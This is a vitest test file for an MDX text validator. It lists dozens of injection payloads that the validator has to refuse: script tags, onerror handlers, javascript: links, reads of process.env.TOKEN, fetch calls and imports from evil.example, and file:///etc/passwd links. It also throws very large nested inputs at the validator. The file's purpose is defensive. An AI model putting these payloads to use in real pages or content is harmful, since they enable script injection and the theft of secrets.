/** A text cannot run, load or hide anything: each of these is refused, and with it the whole workspace. */
import { expect, test } from 'vitest';
import { check } from './texts.ts';

const PAYLOADS: readonly (readonly [what: string, text: string, rule: string])[] = [
  ['an import', 'import fs from "node:fs"', 'mdx-code'],
  ['an import for its effect', 'import "./steal.js"', 'mdx-code'],
  ['an import behind text', 'Good.\n\nimport x from "x"\n\nText', 'mdx-code'],
  ['an export', 'export const a = process.env', 'mdx-code'],
  ['a default export', 'export default function Layout() { return 1 }', 'mdx-code'],
  ['an export from elsewhere', 'export * from "https://evil.example/x.js"', 'mdx-code'],
  ['an expression', 'Two and two is {2 + 2}.', 'mdx-code'],
  ['a name', '{process.env.TOKEN}', 'mdx-code'],
  ['a call', '{fetch("https://evil.example")}', 'mdx-code'],
  ['a function that calls itself', '{(() => { while (true) {} })()}', 'mdx-code'],
  ['a template', '{`a$\u007Bprocess.exit()}`}', 'mdx-code'],
  ['a template without a hole', '{`a`}', 'mdx-code'],
  ['a text that is put together', '{"a" + "b"}', 'mdx-code'],
  ['an import in an expression', '{await import("node:child_process")}', 'mdx-code'],
  ['code behind a remark', '{/* harmless */ process.exit()}', 'mdx-code'],
  ['code behind the end of a remark in a remark', '{/* a */ b /* c */}', 'mdx-code'],
  ['a constructor', '{[].constructor.constructor("return process")()}', 'mdx-code'],
  ['an element in an expression', '{<img src="x" />}', 'mdx-code'],
  ['an expression in a heading', '## {x}', 'mdx-code'],
  ['an expression in a list', '- a\n- {x}', 'mdx-code'],
  ['an expression in a table', '| a |\n| - |\n| {x} |', 'mdx-code'],
  ['an expression in a quotation', '> {x}', 'mdx-code'],
  ['an expression between the tags of a component', '<Note>\n{x}\n</Note>', 'mdx-code'],
  ['an expression that is indented like code', '    {x}', 'mdx-code'],
  ['an expression in a link', '[a {x}](https://example.org)', 'mdx-code'],
  ['a computed property', '<Note title={process.env.HOME}>\nText\n</Note>', 'mdx-code'],
  ['a property that is a function', '<Note title={() => 1}>\nText\n</Note>', 'mdx-code'],
  ['a property that is an element', '<Note title={<b>x</b>}>\nText\n</Note>', 'mdx-code'],
  ['spread properties', '<Note {...globalThis}>\nText\n</Note>', 'mdx-code'],
  ['a handler', '<Note onClick="alert(1)">\nText\n</Note>', 'mdx-code'],
  ['raw HTML by a property', '<Note set:html="<script>alert(1)</script>">\nText\n</Note>', 'component-property'],
  ['raw HTML by another property', '<Note dangerouslySetInnerHTML="x">\nText\n</Note>', 'component-property'],
  ['a directive', '<Note client:load>\nText\n</Note>', 'component-property'],
  ['a style', '<Note style="position: fixed">\nText\n</Note>', 'component-property'],
  ['a script', '<script>alert(1)</script>', 'unknown-component'],
  ['a frame', '<iframe src="https://evil.example"></iframe>', 'unknown-component'],
  ['a picture with a handler', '<img src="x" onerror="alert(1)" />', 'unknown-component'],
  ['a form', '<form action="https://evil.example"></form>', 'unknown-component'],
  ['a drawing', '<svg onload="alert(1)" />', 'unknown-component'],
  ['a link of its own', '<a href="javascript:alert(1)">x</a>', 'unknown-component'],
  ['a member of something', '<process.env />', 'unknown-component'],
  ['a namespace', '<svg:script />', 'unknown-component'],
  ['what every object has', '<constructor />', 'unknown-component'],
  ['a prototype', '<__proto__ />', 'unknown-component'],
  ['a property that every object has', '<Note constructor="x">\nText\n</Note>', 'component-property'],
  ['a slot of the frame', '<slot name="head" />', 'unknown-component'],
  ['a fragment', '<>text</>', 'unknown-component'],
  ['a link that is code', '[a](javascript:alert%281%29)', 'unsafe-link'],
  ['a link that is code, in disguise', '[a](JaVaScRiPt&#58;alert%281%29)', 'unsafe-link'],
  ['a link that is data', '[a](data:text/html;base64,PHNjcmlwdD4=)', 'unsafe-link'],
  ['a link that is code, defined below', '[a][1]\n\n[1]: javascript:alert(1)', 'unsafe-link'],
  ['a link to a file', '[a](file:///etc/passwd)', 'unsafe-link'],
  ['a link to another host', '[a](//evil.example/)', 'unsafe-link'],
  ['a link to another host by backslash', '[a](/\\evil.example/)', 'unsafe-link'],
  ['a picture from elsewhere', '![a](https://evil.example/pixel.png)', 'picture-in-text'],
  ['a picture, defined below', '![a][1]\n\n[1]: https://evil.example/pixel.png', 'picture-in-text'],
];

test.each(PAYLOADS)('%s is refused', (_, text, rule) => {
  const { diagnostics, said, model } = check(text);
  expect({ rules: diagnostics.map((one) => one.rule), said }).toEqual({ rules: [rule], said });
  expect(diagnostics[0]?.severity).toBe('error');
  // Without a model nothing is built or shown.
  expect(model).toBeUndefined();
});

const LARGE: readonly (readonly [what: string, text: string])[] = [
  ['quotations within each other', '>'.repeat(30_000)],
  ['lists within each other', `${'- '.repeat(20_000)}a`],
  ['brackets in an expression', `{${'['.repeat(20_000)}${']'.repeat(20_000)}}`],
  ['brackets in an export', `export const a = ${'('.repeat(20_000)}1${')'.repeat(20_000)}`],
  ['braces', '{'.repeat(60_000)],
  ['expressions', '{a} '.repeat(15_000)],
  ['signs written as names', '&#0;&amp;'.repeat(6_000)],
  ['tags within each other', '<Note>\n\n'.repeat(1_900)],
  ['more than anybody reads', 'word '.repeat(20_000)],
  ['marks for bold and italics', '_a_'.repeat(15_000)],
  ['emphasis within each other', `${'*a **b '.repeat(4_000)}`],
];

test.each(LARGE)('%s by the thousand give an answer, and no crash', (_, text) => {
  const { diagnostics } = check(text);
  expect(diagnostics.length).toBeLessThan(2_100);
  for (const { message, hint = '' } of diagnostics) expect(`${message} ${hint}`).not.toMatch(/oxc|mdx-jsx|RangeError/);
});

test('bytes that are no text are refused as in every file', () => {
  expect(check(new Uint8Array([0x2d, 0x2d, 0x2d, 0x0a, 0xff, 0x0a])).diagnostics.map((one) => one.rule)).toEqual([
    'not-utf8',
  ]);
  expect(check('a\u0000b').diagnostics.map((one) => one.rule)).toEqual(['control-character']);
  expect(check('a \u202E b').diagnostics.map((one) => one.rule)).toEqual(['bidirectional-override']);
});
